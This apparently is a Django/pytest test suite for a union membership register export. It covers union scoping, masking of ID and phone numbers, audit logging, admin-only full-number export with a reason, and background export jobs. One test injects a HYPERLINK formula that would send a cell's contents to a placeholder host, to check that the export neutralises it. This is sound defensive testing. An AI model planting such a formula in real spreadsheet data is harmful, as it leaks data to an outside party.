"""Register export (security.md D4, D8, F1, F3, F6): scoped, masked by default, formula-safe,
full numbers only with export_sensitive and a reason, always audited; large ones as a job."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from auditlog.models import LogEntry
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from members import exports
from members.models import Role
from members.tasks import export_members_task
from tests.factories import MemberFactory
from unionportal.core.models import FileJob

from .excel_helpers import private_storage  # noqa: F401 (fixture)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_storage")]

EXPORT = reverse("members:member_export")


@pytest.fixture
def people(city):
    return {
        "a1": MemberFactory(organisation=city.union_a, name="甲一", is_migrant=True),
        "a2": MemberFactory(organisation=city.branch_a, name="甲二", joined_on=date(2024, 5, 1)),
        "a3": MemberFactory(organisation=city.union_a, name="甲三", status="withdrawn"),
        "b1": MemberFactory(organisation=city.union_b, name="乙一"),
    }


def all_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def rows_of(content: bytes) -> list[tuple]:
    ws = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return list(ws.iter_rows(min_row=2, values_only=True))


def names_in(content: bytes) -> set[str]:
    return {row[1] for row in rows_of(content)}


def test_a_chair_exports_their_union_masked(city, chair_a, people, as_user):
    response = as_user(chair_a).post(EXPORT)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    content = response.content
    assert names_in(content) == {"甲一", "甲二", "甲三"}  # union A and its branch, as listed
    xml = all_xml(content)
    for member in (people["a1"], people["a2"]):
        assert member.resident_id not in xml and member.phone not in xml
        assert member.resident_id_masked in xml and member.phone_masked in xml
    header = next(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))
    assert header[:3] == ("所属组织", "姓名", "身份证号")


def test_a_formula_like_name_is_exported_as_text(city, chair_a, as_user):
    MemberFactory(organisation=city.union_a, name='=HYPERLINK("http://x/?"&B1,"点击")')
    content = as_user(chair_a).post(EXPORT).content
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "=HYPERLINK(" in sheet


# The register list's own parameters (members.filters.MemberFilter).
FILTERS = [
    ({}, {"甲一", "甲二", "甲三"}),
    ({"status": "withdrawn"}, {"甲三"}),
    ({"status": "active"}, {"甲一", "甲二"}),
    ({"is_migrant": "true"}, {"甲一"}),
    ({"is_migrant": "false"}, {"甲二", "甲三"}),
    ({"joined_from": "2024-01-01"}, {"甲二"}),
    ({"joined_to": "2023-12-31"}, {"甲一", "甲三"}),
    ({"q": "二"}, {"甲二"}),
]


@pytest.mark.parametrize("params, expected", FILTERS)
def test_the_register_lists_filters_narrow_the_export(
    city, chair_a, people, as_user, params, expected
):
    response = as_user(chair_a).post(EXPORT, {"union": city.union_a.pk, **params})
    assert names_in(response.content) == expected


def test_the_export_keeps_the_lists_order(city, chair_a, people, as_user):
    response = as_user(chair_a).post(EXPORT, {"sort": "-name"})
    assert [row[1] for row in rows_of(response.content)] == sorted(["甲一", "甲二", "甲三"])[::-1]


def test_the_options_page_takes_the_lists_query_and_counts(city, chair_a, people, as_user):
    response = as_user(chair_a).get(EXPORT, {"union": city.union_a.pk, "status": "active"})
    assert response.status_code == 200
    assert response.context["count"] == 2
    assert 'data-testid="export-count"' in response.content.decode()


def test_another_unions_export_is_refused(city, chair_a, people, as_user):
    client = as_user(chair_a)
    response = client.get(EXPORT, {"union": city.union_b.pk})
    assert response.context["count"] is None and "union" in response.context["filter"].errors
    response = client.post(EXPORT, {"union": city.union_b.pk})
    assert response.status_code == 200 and "union" in response.context["filter"].errors
    assert not LogEntry.objects.filter(additional_data__event="member.export").exists()


def test_every_export_is_audited_with_its_row_count_and_fields(city, chair_a, people, as_user):
    as_user(chair_a).post(EXPORT, {"union": city.union_a.pk})
    entry = LogEntry.objects.get(additional_data__event="member.export")
    assert entry.actor == chair_a and entry.object_pk == str(city.union_a.pk)
    assert entry.additional_data["rows"] == 3
    assert "身份证号" in entry.additional_data["fields"]
    assert entry.additional_data["masked"] == ["resident_id", "phone"]
    assert not LogEntry.objects.filter(additional_data__event="member.export_sensitive").exists()


def test_a_chair_asking_for_full_numbers_is_refused(city, chair_a, people, as_user):
    response = as_user(chair_a).post(EXPORT, {"full_fields": "resident_id", "reason": "x"})
    assert response.status_code == 403
    assert not LogEntry.objects.filter(additional_data__event__startswith="member.export").exists()


def test_full_numbers_need_a_reason(city, admin_user, people, as_user):
    response = as_user(admin_user).post(
        EXPORT, {"union": city.union_a.pk, "full_fields": "resident_id"}
    )
    assert response.status_code == 200 and "reason" in response.context["form"].errors


def test_an_admin_exports_full_numbers_with_a_reason_and_it_is_audited(
    city, admin_user, people, as_user
):
    response = as_user(admin_user).post(
        EXPORT,
        {
            "union": city.union_a.pk,
            "full_fields": ["resident_id"],
            "reason": "社保部门核对会员名单（市总工会函〔2026〕3号）",
        },
    )
    rows = {row[1]: row for row in rows_of(response.content)}
    assert rows["甲一"][2] == people["a1"].resident_id
    assert rows["甲一"][5] == people["a1"].phone_masked  # phones were not asked for
    entry = LogEntry.objects.get(additional_data__event="member.export_sensitive")
    assert entry.actor == admin_user
    assert entry.additional_data["rows"] == 3 and entry.object_pk == str(city.union_a.pk)
    assert entry.additional_data["fields"] == ["resident_id"]
    assert "社保" in entry.additional_data["reason"]


def test_a_large_export_is_built_as_a_job_and_downloaded_by_its_owner_only(
    city, chair_a, officer_a, chair_b, people, as_user, monkeypatch,
    django_capture_on_commit_callbacks,
):  # fmt: skip
    monkeypatch.setattr(exports, "INLINE_ROWS", 1)
    client = as_user(chair_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(EXPORT, {"union": city.union_a.pk, "status": "active"})
    job = FileJob.objects.get()
    assert response["Location"] == reverse("members:job_detail", args=[job.pk])
    assert job.status == FileJob.Status.DONE and job.done == job.total == 2
    page = client.get(response["Location"]).content.decode()
    assert 'data-testid="job-download"' in page

    download = reverse("members:job_download", args=[job.pk])
    response = client.get(download)
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert names_in(content) == {"甲一", "甲二"}
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    for other in (officer_a, chair_b):
        assert as_user(other).get(download).status_code == 404
    entry = LogEntry.objects.get(additional_data__event="member.export")
    assert entry.additional_data["rows"] == 2 and entry.additional_data["job"] == job.pk


def test_the_export_task_refuses_a_user_who_cannot_see_the_union(city, chair_a, people):
    """security.md D8: called directly with chair A and union B, the task raises and writes
    no file."""
    job = FileJob.objects.create(
        kind="export",
        name="members.export",
        created_by=chair_a,
        organisation=city.union_b,
        params={"filters": {"union": str(city.union_b.pk)}},
    )
    with pytest.raises(PermissionDenied):
        export_members_task(job.pk, chair_a.pk)
    job.refresh_from_db()
    assert not job.file and job.status == FileJob.Status.FAILED
    assert not LogEntry.objects.filter(additional_data__event="member.export").exists()


def test_the_export_task_refuses_someone_other_than_the_requester(city, chair_a, officer_a):
    job = FileJob.objects.create(
        kind="export", name="members.export", created_by=chair_a, organisation=city.union_a
    )
    with pytest.raises(PermissionDenied):
        export_members_task(job.pk, officer_a.pk)
    job.refresh_from_db()
    assert not job.file


def test_the_export_task_refuses_full_numbers_once_the_capability_is_gone(city, admin_user):
    job = FileJob.objects.create(
        kind="export",
        name="members.export",
        created_by=admin_user,
        organisation=city.union_a,
        params={"full_fields": ["resident_id"], "reason": "核对"},
    )
    Role.objects.filter(user=admin_user).update(role="federation_staff")
    with pytest.raises(PermissionDenied):
        export_members_task(job.pk, admin_user.pk)
    job.refresh_from_db()
    assert not job.file


@pytest.mark.parametrize(
    "persona", ["chair_a", "officer_a", "county_user", "staff_user", "admin_user"]
)
def test_everyone_who_works_with_members_may_export(request, city, as_user, persona):
    assert as_user(request.getfixturevalue(persona)).get(EXPORT).status_code == 200


def test_the_auditor_may_not_export(city, auditor_user, as_user):
    assert as_user(auditor_user).get(EXPORT).status_code == 403
    assert as_user(auditor_user).post(EXPORT).status_code == 403


def test_the_export_costs_the_same_queries_for_few_and_many_members(city, chair_a, as_user):
    client = as_user(chair_a)

    def queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.post(EXPORT, {"union": city.union_a.pk}).status_code == 200
        return len(ctx)

    MemberFactory.create_batch(3, organisation=city.union_a)
    few = queries()
    MemberFactory.create_batch(40, organisation=city.branch_a)
    assert queries() == few


def test_a_branch_sent_by_the_register_list_narrows_the_export(city, chair_a, people, as_user):
    client = as_user(chair_a)
    assert client.get(EXPORT, {"union": city.branch_a.pk}).context["count"] == 1
    response = client.post(EXPORT, {"union": city.branch_a.pk})
    assert names_in(response.content) == {"甲二"}
